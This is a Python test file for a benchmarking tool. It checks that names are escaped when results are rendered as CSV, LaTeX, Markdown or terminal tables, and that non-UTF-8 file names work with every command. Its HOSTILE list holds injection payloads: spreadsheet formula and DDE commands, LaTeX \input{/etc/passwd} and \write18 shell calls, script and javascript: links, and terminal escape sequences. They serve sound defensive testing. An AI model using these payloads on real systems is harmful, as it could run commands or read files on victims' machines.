"""Names that spreadsheets, LaTeX, Markdown and terminals would execute or interpret, and names that are not UTF-8."""

import csv
import io
import os
import shutil
from pathlib import Path

import pytest

from mecam.benchmark.render import table
from mecam.progress import Event
from tests.processes import run_each
from tests.report.runs import write_run
from tests.serving.runs import TINY, write_images

HOSTILE = {
    "formula": '=HYPERLINK("http://x/?"&A1)',
    "minus": "-2+3+cmd|' /C calc'!A0",
    "plus": "+1",
    "at": "@SUM(1)",
    "tab": "\t=1",
    "input": r"\input{/etc/passwd}",
    "write18": r"\write18{id}",
    "comment": "%\n\\input{x}",
    "length": "[9999pt]",
    "math": "$\\catcode`\\%=12$",
    "script": "<script>alert(1)</script>",
    "image": "![x](http://tracker/x.png)",
    "link": "[x](javascript:alert(1))",
    "row": "a|b",
    "line": "a\n| b | c |\n# Heading",
    "title": "\x1b]0;owned\x07",
    "screen": "\x1b[2J\x1b[1;1H100.0",
    "c1": "\x9b2J",
    "return": "99.9\r  1.0",
    "backspace": "1\b9",
    "reversed": "\u202e0.001",
}


def rows(out: Path, domain: str, form: str) -> str:
    """The table of a run whose unseen domain and data set have this name."""
    for seed in (0, 1):
        write_run(out, 0.5, domains=[domain, "other"], data=f"folder/{domain}", target=domain, seed=seed, steps=20)
    return table(out, form=form)[0]


@pytest.mark.attack("Names and tables")
@pytest.mark.parametrize("name", HOSTILE)
def test_spreadsheets_run_no_name(name: str, tmp_path: Path) -> None:
    for line in csv.reader(io.StringIO(rows(tmp_path, HOSTILE[name], "csv"))):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line)


@pytest.mark.attack("Names and tables")
@pytest.mark.parametrize("name", HOSTILE)
def test_latex_runs_no_name(name: str, tmp_path: Path) -> None:
    ours = (r"\begin{", r"\end{", r"\toprule", r"\midrule", r"\bottomrule", r"\textbf{", r"\pm$", r"\\")
    escaped = (
        *(rf"\{letter}" for letter in "&%$#_{}"),
        r"\textbackslash{}",
        r"\textasciitilde{}",
        r"\textasciicircum{}",
    )
    for line in rows(tmp_path, HOSTILE[name], "latex").splitlines():
        if line.startswith("%"):
            continue
        assert not line.startswith("[")
        for known in (*escaped, *ours):
            line = line.replace(known, "")
        assert "\\" not in line
        assert "%" not in line


@pytest.mark.attack("Names and tables")
@pytest.mark.parametrize("name", HOSTILE)
def test_markdown_interprets_no_name(name: str, tmp_path: Path) -> None:
    text = rows(tmp_path, HOSTILE[name], "markdown")
    assert "<script" not in text
    assert "](" not in text.replace("]\\(", "")
    lines = [line for line in text.splitlines() if line.startswith("|")]
    assert len({line.replace("\\|", "").count("|") for line in lines}) == 1
    assert sum(line.startswith("#") for line in text.splitlines()) == 1


@pytest.mark.attack("Names and tables")
@pytest.mark.parametrize("name", HOSTILE)
def test_terminals_obey_no_name(name: str, tmp_path: Path) -> None:
    texts = [rows(tmp_path, HOSTILE[name], form) for form in ("terminal", "markdown", "latex")]
    texts.append(Event(HOSTILE[name], text=HOSTILE[name], kind="failed").line())
    for text in texts:
        assert not [letter for letter in text if ord(letter) < 32 and letter not in "\n\t"]
        assert not {"\x7f", "\x9b", "\u202e"} & set(text)


@pytest.fixture(scope="module")
def latin(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder whose domains, classes and images have names in Latin-1."""
    place = tmp_path_factory.mktemp("latin")
    try:
        os.mkdir(os.fsencode(place) + b"/caf\xe9")
    except OSError:
        pytest.skip("the file system takes UTF-8 names only")
    root = write_images(place / "plain")
    data = os.fsencode(place) + b"/caf\xe9/data"
    shutil.copytree(os.fsencode(root), data)
    os.rename(data + b"/lab", data + b"/\xe9tude")
    for domain in (b"clinic", b"home", b"\xe9tude"):
        os.rename(data + b"/" + domain + b"/red", data + b"/" + domain + b"/r\xf4uge")
        os.rename(data + b"/" + domain + b"/blue/0.jpg", data + b"/" + domain + b"/blue/\xff.jpg")
    return place


DATA, TARGET = os.fsdecode(b"caf\xe9/data"), os.fsdecode(b"\xe9tude")


@pytest.mark.attack("Names and tables")
def test_names_that_are_not_utf8(latin: Path) -> None:
    """Every command takes them, and no one ends in a traceback."""
    image = os.fsdecode(b"caf\xe9/data/\xe9tude/blue/\xff.jpg")
    train = ("--data", DATA, "--target", TARGET, *TINY)
    commands: list[tuple[object, ...]] = [
        ("data", "check", DATA),
        ("data", "pack", DATA, "--out", "store"),
        ("train", *train, "--out", "run"),
        ("bench", *train, "--seeds", 0, "--workers", 1, "--out", "bench"),
        *(("table", "bench", "--format", form) for form in ("terminal", "markdown", "latex", "csv", "json")),
        ("report", "bench", "--out", "bench.html"),
        ("report", "run", "--out", "run.html"),
        ("figures", "bench", "--out", "figures"),
        ("predict", "run", image, "--probabilities"),
        ("predict", "run", image, "--format", "json"),
        ("evaluate", "run", DATA, "--wrong", "wrong.csv", "--out", "evaluation.html"),
        ("export", "run", "--out", "onnx"),
        ("export", "run", "--format", "safetensors", "--out", "tensors"),
        ("curvature", "run", "--plot", "curvature.svg", "--images", 4),
        ("landscape", "run", "--steps", 3, "--images", 4, "--out", "landscape"),
        ("rerun", "run"),
        ("verify", "run", "bench"),
    ]
    for words, done in zip(commands, run_each(*commands, cwd=latin, PYTHONUTF8="1"), strict=True):
        assert done.code == 0, (words, done.err)
